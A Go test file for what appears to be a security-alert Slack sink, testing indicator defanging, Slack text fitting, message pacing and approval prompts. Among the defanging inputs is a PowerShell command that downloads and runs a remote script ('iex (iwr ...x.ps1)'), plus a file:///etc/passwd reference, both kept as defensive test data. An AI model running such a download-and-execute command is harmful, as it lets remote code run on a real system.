package sinks

import (
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/erbridge/erbridge/internal/soar"
)

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"see https://evil.example.org/a.b?c=d now":       "see hxxps[:]//evil[.]example[.]org/a.b?c=d now",
		"HTTP://EVIL.example":                            "HxxP[:]//EVIL[.]example",
		"iex (iwr http://10.0.0.1:8080/x.ps1)":           "iex (iwr hxxp[:]//10[.]0[.]0[.]1:8080/x.ps1)",
		"10.1.2.3, 999.1.2.3":                            "10[.]1[.]2[.]3, 999.1.2.3",
		"mail a.b@evil.example":                          "mail a.b[@]evil[.]example",
		`C:\Windows\System32\cmd.exe /c x.bat`:           `C:\Windows\System32\cmd.exe /c x.bat`,
		"version 10.0.19041.1":                           "version 10.0.19041.1",
		"slack://open file:///etc/passwd mailto:x tel:1": "slack[:]//open file[:]///etc/passwd mailto[:]x tel[:]1",
		"hxxps[:]//evil[.]example":                       "hxxps[:]//evil[.]example",
	} {
		if got := defang(in); got != want {
			t.Errorf("defang(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

func FuzzFit(f *testing.F) {
	f.Add("<!channel> & <@U1>|`x`\n\u202e\xff https://a.b/c", 20)
	f.Add(strings.Repeat("&", 100), 30)
	f.Add("🔥🔥🔥🔥", 4)
	f.Fuzz(func(t *testing.T, text string, limit int) {
		if limit < 1 || limit > 3000 {
			t.Skip()
		}
		for _, got := range []string{fit(text, limit), fitLines(text, limit)} {
			if n := len(utf16.Encode([]rune(got))); n > limit {
				t.Errorf("%d units, the limit is %d: %q", n, limit, got)
			}
			if !utf8.ValidString(got) || strings.ContainsAny(got, "<>`\r\x00\x1b") {
				t.Errorf("not harmless: %q", got)
			}
			rest := got
			for {
				_, after, found := strings.Cut(rest, "&")
				if !found {
					break
				}
				if !strings.HasPrefix(after, "amp;") && !strings.HasPrefix(after, "lt;") && !strings.HasPrefix(after, "gt;") {
					t.Errorf("bare or cut entity in %q", got)
				}
				rest = after
			}
		}
	})
}

func TestPaces(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var p Paces
		began := time.Now()
		for range 4 {
			if err := p.wait(t.Context(), paceOf("token", "#soc"), time.Second); err != nil {
				t.Fatal(err)
			}
		}
		if took := time.Since(began); took != 3*time.Second {
			t.Errorf("four messages took %s, want 3s", took)
		}
	})
}

// However long all of a question is, it stays a section that Slack takes.
func TestSlackQuestionFits(t *testing.T) {
	long := strings.Repeat("&", 4000)
	for _, state := range []soar.ApprovalState{soar.ApprovalWaiting, soar.ApprovalDenied} {
		asked := &soar.Approval{State: state, Text: long, Action: "host.contain", With: map[string]any{"reason": long}, Hosts: []string{long}, Count: 9, Why: long}
		voted := *asked
		for range 9 {
			voted.Votes = append(voted.Votes, soar.Vote{By: long, Agree: true, Reason: long})
		}
		for name, lines := range map[string][]string{"asked": approvalLines(asked, long), "voted": approvalLines(&voted, "")} {
			if n := len(utf16.Encode([]rune(strings.Join(lines, "\n")))); n > slackSectionMax {
				t.Errorf("%s, %s: %d units, the limit is %d", name, state, n, slackSectionMax)
			}
		}
	}
}
